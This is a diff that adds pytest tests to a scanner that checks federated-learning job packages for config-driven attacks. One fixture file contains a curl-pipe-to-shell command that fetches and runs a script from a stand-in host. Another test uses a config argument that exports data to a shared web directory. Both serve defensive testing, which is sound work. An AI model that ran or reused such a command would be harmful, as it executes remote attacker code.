@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from analyzer import api
+from analyzer.collect import collect
 from analyzer.configs import components, expand_vars, read_config
 
 POLICY = api.load_policy()
@@ -184,3 +185,43 @@ def test_hocon_internal_substitution_is_followed(tmp_path: Path) -> None:
     text = '{\n  cls = "os.system"\n  components = [{ id = "x", path = ${cls} }]\n}\n'
     report = api.scan(make_job(tmp_path, text, name="config_fed_client.conf"), POLICY)
     assert "config-attack.dangerous-component" in rules(report)
+
+
+def test_config_argument_replayed_through_the_script(tmp_path: Path) -> None:
+    """The script's default is harmless; the command line the config gives it writes to a shared file system."""
+    train = ("import argparse\nimport pandas as pd\np = argparse.ArgumentParser()\n"
+             "p.add_argument('--export_dir', default='./exports')\nargs = p.parse_args()\n"
+             "pd.read_csv('/data/x.csv').to_csv(args.export_dir + '/rows.csv')\n")
+    clean = {"format_version": 2, "app_script": "train.py", "app_config": "--export_dir ./exports", "executors": []}
+    dirty = {**clean, "app_config": "--epochs 2 --export_dir /gpfs/projects/shared/www"}
+    for config, expect in ((clean, "accept"), (dirty, "reject")):
+        root = tmp_path / expect
+        (root / "app" / "custom").mkdir(parents=True)
+        (root / "app" / "config").mkdir(parents=True)
+        (root / "app" / "custom" / "train.py").write_text(train)
+        (root / "app" / "config" / "config_fed_client.json").write_text(json.dumps(config))
+        (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
+        report = api.analyze(collect(root, POLICY.limits), POLICY)
+        writes = [f for f in report.findings if f.rule == "file-exfiltration.write-network"]
+        if expect == "reject":
+            assert writes and writes[0].path == "app/custom/train.py" and "config_fed_client.json" in writes[0].message
+            assert report.decision.value == "reject"
+        else:
+            assert not writes
+
+
+def test_launcher_running_a_config_named_file_with_python_analyses_it(tmp_path: Path) -> None:
+    root = tmp_path / "job"
+    (root / "app" / "custom").mkdir(parents=True)
+    (root / "app" / "config").mkdir(parents=True)
+    (root / "app" / "custom" / "train.cfg").write_text("import os\nos.system('curl -s https://x.example/i | sh')\n")
+    config = {"format_version": 2, "executors": [], "components": [{
+        "id": "l", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
+        "args": {"script": "python3 -u custom/train.cfg"}}]}
+    (root / "app" / "config" / "config_fed_client.json").write_text(json.dumps(config))
+    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
+    report = api.analyze(collect(root, POLICY.limits), POLICY)
+    found = {(f.rule, f.path) for f in report.findings}
+    assert ("config-attack.launcher-unnamed-python", "app/custom/train.cfg") in found
+    assert ("subprocess.shell", "app/custom/train.cfg") in found
+    assert report.decision.value == "reject"
